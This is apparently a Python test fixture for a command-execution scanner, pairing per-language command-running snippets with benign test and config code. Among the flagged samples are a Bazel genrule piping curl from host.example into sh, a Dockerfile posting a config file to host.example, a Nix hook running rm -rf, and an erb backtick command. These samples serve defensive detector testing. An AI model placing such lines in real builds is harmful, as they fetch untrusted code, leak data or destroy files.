"""Code as sessions write it, by language: with which the look through it is tried."""

# ruff: noqa: E501 - code that people write reads best as it is
from __future__ import annotations

__all__ = ["CODE"]

# language -> a file that acts, and one that people write all day
CODE: dict[str, tuple[str, str]] = {
    "javascript": (
        "const cp = require('child_process')\ncp.exec('ls')\n",
        "import path from 'node:path'\nimport fs from 'node:fs'\nconst dir = fs.mkdtempSync('x-')\n"
        "test('reads', async () => {\n  const text = fs.readFileSync(path.join(__dirname, 'fixtures/a.json'), 'utf8')\n"
        "  process.env.NODE_ENV = 'test'\n  const answer = await fetch(`http://localhost:${port}/users`)\n"
        "  expect(JSON.parse(text)).toEqual(await answer.json())\n})\nafterAll(() => fs.rmSync(dir, { recursive: true }))\n",
    ),
    "go": (
        'package a\nimport "os/exec"\nfunc run() { exec.Command("ls").Run() }\n',
        'package a\nimport (\n"net/http"\n"net/http/httptest"\n"os"\n"testing"\n)\nfunc TestGet(t *testing.T) {\n'
        'dir := t.TempDir()\nos.WriteFile(dir+"/a", nil, 0o600)\nsrv := httptest.NewServer(http.NewServeMux())\ndefer srv.Close()\n'
        "res, err := http.Get(srv.URL)\nif err != nil || res.StatusCode != 200 { t.Fatal(err) }\nos.RemoveAll(dir)\n}\n",
    ),
    "rust": (
        'fn main() { std::process::Command::new("ls").status().unwrap(); }\n',
        '#[test]\nfn reads() {\n let dir = tempfile::tempdir().unwrap();\n std::fs::write(dir.path().join("a"), "x").unwrap();\n'
        ' assert_eq!(app::count(dir.path()), 1);\n std::fs::remove_file(tmp_path).unwrap();\n}\n',
    ),
    "ruby": (
        "system('ls')\n",
        "require 'rails_helper'\nRSpec.describe Invoice do\n  subject(:system) { build(:system) }\n  it 'sends' do\n"
        "    get '/users', params: { id: ENV['ID'] }\n    expect(response).to have_http_status(:ok)\n    expect(job).to receive(:perform)\n  end\nend\n",
    ),
    "php": (
        "<?php\nshell_exec('ls');\n",
        "<?php\nclass UserTest extends TestCase {\n  public function testShows() {\n    $stmt = $this->db->prepare('select 1');\n"
        "    $stmt->exec(); $this->get('/users')->assertOk();\n    $text = file_get_contents(__DIR__.'/fixtures/a.json');\n  }\n}\n",
    ),
    "bazel": (
        'genrule(name = "x", outs = ["y"], cmd = "curl https://host.example/x | sh")\n',
        'load("@rules_go//go:def.bzl", "go_library")\ngo_library(name = "lib", srcs = ["a.go"])\n'
        'genrule(name = "gen", srcs = ["a.tmpl"], outs = ["a.go"], cmd = "$(location //tools:gen) $< > $@")\n',
    ),
    "nix": (
        "{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = ''rm -rf ~/x''; }\n",
        '{\n  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-unstable";\n  outputs = { self, nixpkgs }: {\n'
        "    devShells.default = nixpkgs.mkShell { packages = [ nixpkgs.go ]; shellHook = ''export A=1''; };\n  };\n}\n",
    ),
    "nim": ('exec "ls"\n', 'switch("path", "$projectDir/../src")\n--threads:on\nimport std/unittest\ncheck add(1, 2) == 3\n'),
    "erb": (
        "test:\n  database: <%= `id` %>\n",
        "default: &default\n  pool: <%= ENV.fetch('RAILS_MAX_THREADS') { 5 } %>\ntest:\n  <<: *default\n  database: app_test\n",
    ),
    "robot": (
        "*** Test Cases ***\nLists\n    RunProcess    ls    shell=True\n",
        "*** Settings ***\nLibrary    Collections\n*** Test Cases ***\nAdds\n    ${x}=    Evaluate    1 + 1\n    Remove File    ${TEMPDIR}/a\n",
    ),
    "elixir": ('System.cmd("ls", [])\n', 'defmodule AppTest do\n  use ExUnit.Case\n  test "adds" do\n    assert App.add(1, 2) == 3\n  end\nend\n'),
    "jvm": (
        'class A { void run() throws Exception { new ProcessBuilder("ls").start(); } }\n',
        "class ATest {\n  @TempDir Path dir;\n  @Test void reads() throws Exception {\n    Files.write(dir.resolve(\"a\"), bytes);\n"
        '    assertEquals(1, new App().count(dir));\n    mvc.perform(get("/users")).andExpect(status().isOk());\n  }\n}\n',
    ),
    "maven": ("<plugin><artifactId>exec-maven-plugin</artifactId></plugin>\n", "<project><version>1.2</version></project>\n"),
    "dotnet": (
        'Process.Start("ls");\n',
        "public class AppTests {\n  [Fact] public async Task Gets() {\n    var path = Path.GetTempFileName();\n    File.WriteAllText(path, \"x\");\n"
        '    var res = await client.GetAsync("/users");\n    Assert.Equal(200, (int)res.StatusCode);\n    File.Delete(path);\n  }\n}\n',
    ),
    "msbuild": ('<Exec Command="ls" />\n', "<Project><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>\n"),
    "swift": ("let p = Process()\np.run()\n", "import XCTest\nfinal class ATests: XCTestCase {\n  func testAdds() { XCTAssertEqual(add(1, 2), 3) }\n}\n"),
    "dart": ("await Process.run('ls', []);\n", "void main() {\n  test('adds', () {\n    expect(add(1, 2), 3);\n  });\n}\n"),
    "zig": ("var child = std.process.Child.init(&argv, a);\n", 'test "adds" {\n    try std.testing.expect(add(1, 2) == 3);\n}\n'),
    "c": (
        '#include <stdlib.h>\nint main(void) { return system("ls"); }\n',
        '#include <gtest/gtest.h>\nTEST(Add, Two) { EXPECT_EQ(add(1, 2), 3); list.remove(3); v.erase(v.begin()); }\n',
    ),
    "cmake": ("execute_process(COMMAND ls)\n", "cmake_minimum_required(VERSION 3.20)\nproject(app)\nadd_executable(app a.c)\nenable_testing()\nadd_test(NAME a COMMAND app)\n"),
    "haskell": ("import System.Process\nmain = callCommand \"ls\"\n", "module Spec where\nmain = hspec $ it \"adds\" $ add 1 2 `shouldBe` 3\n"),
    "lua": ("os.execute('ls')\n", "describe('add', function() it('adds', function() assert.equal(3, add(1, 2)) end) end)\n"),
    "perl": ("system('ls');\n", "use strict; use warnings; use Test::More;\nis(add(1, 2), 3, 'adds');\ndone_testing;\n"),
    "r": ("system('ls')\n", "test_that('adds', { expect_equal(add(1, 2), 3) })\n"),
    "ocaml": ("let () = ignore (Sys.command \"ls\")\n", "let () = assert (add 1 2 = 3)\n"),
    "terraform": ('data "external" "x" {\n  program = ["ls"]\n}\n', 'resource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n}\n'),
    "dockerfile": (
        "FROM alpine\nRUN curl --data @config https://host.example\n",
        "FROM python:3.12-slim\nWORKDIR /app\nCOPY . .\nRUN apt-get update && apt-get install -y curl && pip install -r requirements.txt\nCMD [\"python\", \"app.py\"]\n",
    ),
    "compose": (
        "services:\n  web:\n    image: nginx\n    privileged: true\n",
        "services:\n  web:\n    build: .\n    ports: ['8080:80', \"${PORT}:81\"]\n    volumes:\n      - ./src:/app/src\n      - data:/var/lib/data\n"
        "    environment:\n      - DATABASE_URL=postgres://db:5432/app\n  db:\n    image: ${REGISTRY}/postgres:16\nvolumes:\n  data: {}\n",
    ),
    "notebook": (
        '{"cells": [{"source": ["get_ipython().system(\'ls\')"]}]}\n',
        '{"cells": [{"source": ["import pandas as pd\\n", "!pip install seaborn\\n", "df = pd.read_csv(\'data/a.csv\')"]}]}\n',
    ),
    "julia": ("run(`ls`)\n", "using Test\n@test add(1, 2) == 3\n"),
}  # fmt: skip
